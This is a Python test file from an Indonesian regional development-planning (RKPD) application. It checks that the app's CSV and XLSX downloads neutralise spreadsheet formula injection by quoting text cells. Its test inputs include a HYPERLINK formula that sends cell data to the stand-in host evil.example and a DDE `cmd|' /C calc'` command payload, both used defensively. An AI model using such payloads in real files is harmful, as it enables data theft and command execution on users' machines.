"""CSV (formula) injection (issue 11): a text an agency typed never comes out of an RKPD download as a live
formula. OWASP's advice is `rkpd_files.spreadsheet_cell` (tested on its own, with tab and carriage return
too, which the domain never lets into a line); then both files of a list holding such texts, built in
memory; then, through a real server with an RKPD of its own (tests/rkpd_site.py, a database no other
test reads), lines an agency revised through the staff API and Bappeda adopted again."""

from __future__ import annotations

import csv
import datetime as dt
import doctest
import io
import uuid
import zipfile
from collections.abc import Iterator

import httpx
import openpyxl
import pytest

from musrenbang.http import rkpd_files
from musrenbang.http.rkpd_api import HeadOut, PlaceOut, RkpdItemOut, RkpdOut
from musrenbang.http.rkpd_files import FORMULA_START, spreadsheet_cell
from tests.http.test_staff import PASSWORD, add_user
from tests.rkpd_site import YEAR, Site, rkpd_site

pytestmark = pytest.mark.edge  # the HTTP edge: the same on every PostgreSQL (.ci/run)

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
TEXT_COLUMNS = ("Program", "Kegiatan", "Sub Kegiatan", "Indikator Keluaran", "Satuan Target", "Satuan Volume")
"""The line's own texts in the CSV."""


def test_a_text_starting_like_a_formula_gets_a_quote_and_nothing_else_changes() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        for text in (f"{start}1+1", f"{start}cmd|' /C calc'!A0", start):
            assert spreadsheet_cell(text) == "'" + text
            assert spreadsheet_cell(text, numeric=True) == "'" + text  # not a plain number: still text
    assert spreadsheet_cell(HYPERLINK) == "'" + HYPERLINK
    for safe in ("Program Penyelenggaraan Jalan", "", " =1+1", "'=1+1", "1.03.10.2.01.0017", "a=b", "x\n=1"):
        assert spreadsheet_cell(safe) == safe
    # Numbers stay numbers, negative ones too; in a numeric column so does a plain number written as text.
    for number in (0, 5, -5, 9_000_000):
        assert spreadsheet_cell(number) == number and spreadsheet_cell(number, numeric=True) == number
    for written in ("-5", "-2.5", "300", "2.5"):
        assert spreadsheet_cell(written, numeric=True) == written
    assert spreadsheet_cell("-5") == "'-5"  # in a text column a text is a text
    assert doctest.testmod(rkpd_files).failed == 0


def _item(**changes: object) -> RkpdItemOut:
    fields: dict = dict(
        id="DBMSDA-001", no=1, priority_program=1, priority_program_title="Infrastruktur", agency="DBMSDA",
        agency_name="Dinas Bina Marga dan Sumber Daya Air", program="Program Penyelenggaraan Jalan",
        kegiatan="Penyelenggaraan Jalan", sub_kegiatan="Rehabilitasi Jalan", sub_kegiatan_code="1.03.10.2.01.0017",
        nomenclature="permendagri-90-2019", output_indicator="Panjang jalan", target="300", target_unit="m",
        locations=[PlaceOut("32.75.01.1001", "Bekasijaya")], kecamatan=[], volume="2.5", unit="km",
        pagu=9_000_000, funding_source="apbd_kota", origins=[],
    )  # fmt: skip
    return RkpdItemOut(**{**fields, **changes})


def _rkpd(*items: RkpdItemOut) -> RkpdOut:
    head = HeadOut(stream=f"rkpd-{YEAR}", version=3, position=9, hash="ab" * 32,
                   adopted_at=dt.datetime(YEAR - 1, 5, 1, tzinfo=dt.UTC))  # fmt: skip
    return RkpdOut(year=YEAR, status="ditetapkan", revision=1, changed_since_adoption=False, head=head,
                   total_pagu=sum(i.pagu for i in items), items=list(items))  # fmt: skip


def _csv_rows(content: bytes) -> list[dict[str, str]]:
    """The CSV's lines by column name (every name once: a repeated one would hide a column here)."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert len(set(rows[0])) == len(rows[0]), rows[0]
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def _xlsx(content: bytes) -> openpyxl.worksheet.worksheet.Worksheet:
    """The list's sheet, after checking that no sheet of the file holds a formula at all."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for part in z.namelist():
            if part.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(part) and b"<f " not in z.read(part), part
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        assert not [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
    return book[f"RKPD {YEAR}"]


def test_both_files_of_a_list_with_formula_like_texts_hold_them_as_text_and_numbers_as_numbers() -> None:
    """Built in memory, so tab, carriage return and negative numbers (which the domain refuses) get in too."""
    texts = {"program": HYPERLINK, "kegiatan": "+SUM(1,2)", "sub_kegiatan": "-2+3", "output_indicator": "@SUM(A1)",
             "target_unit": "\t=1+1", "unit": "\r=1+1"}  # fmt: skip
    rkpd = _rkpd(_item(**texts, target="-1", volume="-2.5", pagu=-5), _item(id="DBMSDA-002", no=2))
    [line, plain] = _csv_rows(rkpd_files.to_csv(rkpd))
    assert line["Program"] == "'" + HYPERLINK
    assert [line[c] for c in TEXT_COLUMNS] == [
        "'" + texts[f] for f in ("program", "kegiatan", "sub_kegiatan", "output_indicator", "target_unit", "unit")
    ]
    assert (line["No"], line["Target"], line["Volume"], line["Pagu"]) == ("1", "-1", "-2.5", "-5")  # still numbers
    assert plain["Program"] == "Program Penyelenggaraan Jalan" and plain["Volume"] == "2.5"

    sheet = _xlsx(rkpd_files.to_xlsx(rkpd, "Kota Bekasi"))
    header = [c.value for c in sheet[1]]
    cells = dict(zip(range(len(header)), sheet[2], strict=True))
    for c, field in ((2, "program"), (3, "kegiatan"), (4, "sub_kegiatan"), (5, "output_indicator"),
                     (7, "target_unit"), (10, "unit")):  # fmt: skip
        # The text itself (XlsxWriter stores a carriage return as OOXML's "_x000D_", which openpyxl leaves so)...
        assert cells[c].data_type == "s" and cells[c].value.replace("_x000D_", "\r") == texts[field], header[c]
        assert cells[c].quotePrefix, header[c]  # ...kept text when someone edits the cell
    assert [(cells[c].data_type, cells[c].value) for c in (0, 6, 9, 11)] == [("n", 1), ("n", -1), ("n", -2.5),
                                                                             ("n", -5)]  # fmt: skip
    assert not any(c.quotePrefix for c in sheet[3])


def test_every_text_cell_is_quoted_so_a_semicolon_cannot_start_a_formula() -> None:
    """A spreadsheet set up for an Indonesian locale splits an unquoted CSV line at `;` as well: a program
    named `x;=2+2;` would become three cells, one of them a formula. Quoted, it stays one text cell;
    numbers stay unquoted, so they stay numbers."""
    rkpd = _rkpd(_item(program="x;=2+2;", kegiatan='a";=1+1'))
    lines = rkpd_files.to_csv(rkpd).decode("utf-8-sig").split("\r\n")
    assert ',"x;=2+2;",' in lines[1] and ',"a"";=1+1",' in lines[1]
    assert lines[1].startswith("1,") and ",9000000," in lines[1]  # No and Pagu: bare numbers
    for field in csv.reader(io.StringIO(lines[1])):
        assert [f for f in field if ";" in f] == ["x;=2+2;", 'a";=1+1']  # whole, as one cell each
    assert all(f.startswith('"') for f in lines[0].split(","))  # the header row is text too


# --- through a real server ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def site(server_url: str, template_name: str) -> Iterator[Site]:
    with rkpd_site(server_url, template_name) as s:
        yield s



async def _token(web: httpx.AsyncClient, database_url: str, role: str, *scope: str) -> dict[str, str]:
    name = f"{role}-csv-{uuid.uuid4().hex[:6]}"
    add_user(database_url, name, role, *scope)
    r = await web.post("/api/v1/auth/token", json={"username": name, "password": PASSWORD})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['token']}"}


@pytest.mark.slow
async def test_lines_an_agency_typed_like_formulas_come_out_of_the_downloads_as_text(
    web: httpx.AsyncClient, site: Site
) -> None:
    agency = await _token(web, site.database_url, "opd", "--opd", "DBMSDA")
    bappeda = await _token(web, site.database_url, "admin")
    # What the domain lets through: =, +, - and @ at the start of each text (a leading tab it trims away).
    typed = {"program": HYPERLINK, "kegiatan": "+SUM(1,2)", "sub_kegiatan": "-2+3*cmd|' /C calc'!A0",
             "output_indicator": "@SUM(A1:A9)", "target_unit": "\t=1+1", "unit": "-m"}  # fmt: skip
    data = (await web.get(f"/api/v1/rkpd/{YEAR}")).json()
    [road] = [i for i in data["items"] if i["id"] == site.lines["road"]]
    line = {
        "origins": [o["code"] for o in road["origins"]], "priority_program": road["priority_program"],
        "sub_kegiatan_code": road["sub_kegiatan_code"], "funding_source": road["funding_source"],
        "volume": road["volume"], "target": road["target"], "pagu": road["pagu"],
        **typed, "reason": "uji teks yang tampak seperti rumus",
    }  # fmt: skip
    r = await web.put(f"/api/v1/rkpd/{YEAR}/lines/{road['id']}", json=line, headers=agency)
    assert r.status_code == 200, r.text
    r = await web.post(f"/api/v1/rkpd/{YEAR}/adopt", json={"note": "revisi uji"}, headers=bappeda)
    assert r.status_code == 200, r.text

    data = (await web.get(f"/api/v1/rkpd/{YEAR}")).json()
    assert data["revision"] == 2 and not data["changed_since_adoption"]
    n = [i["id"] for i in data["items"]].index(road["id"])
    stored = data["items"][n]
    assert stored["program"] == HYPERLINK and stored["target_unit"] == "=1+1"  # the JSON keeps what was typed
    fields = ("program", "kegiatan", "sub_kegiatan", "output_indicator", "target_unit", "unit")
    assert all(stored[f].startswith(FORMULA_START) for f in fields)

    response = await web.get(f"/rkpd/{YEAR}.csv")
    assert response.status_code == 200
    rows = _csv_rows(response.content)
    assert len(rows) == len(data["items"]) == 3
    got = rows[n]
    assert got["Program"] == "'" + HYPERLINK
    assert [got[c] for c in TEXT_COLUMNS] == ["'" + stored[f] for f in fields]
    for item, row in zip(data["items"], rows, strict=True):  # every number is still a number, as in the JSON
        assert (row["No"], row["Target"], row["Volume"], row["Pagu"]) == (
            str(item["no"]), item["target"], item["volume"], str(item["pagu"]),
        )  # fmt: skip
        assert not any(v.startswith(FORMULA_START) for v in row.values())

    response = await web.get(f"/rkpd/{YEAR}.xlsx")
    assert response.status_code == 200
    sheet = _xlsx(response.content)
    cells = list(sheet[n + 2])
    for c, field in ((2, "program"), (3, "kegiatan"), (4, "sub_kegiatan"), (5, "output_indicator"),
                     (7, "target_unit"), (10, "unit")):  # fmt: skip
        assert (cells[c].data_type, cells[c].value, cells[c].quotePrefix) == ("s", stored[field], True), field
    assert [cells[c].data_type for c in (0, 6, 9, 11)] == ["n"] * 4 and cells[11].value == stored["pagu"]
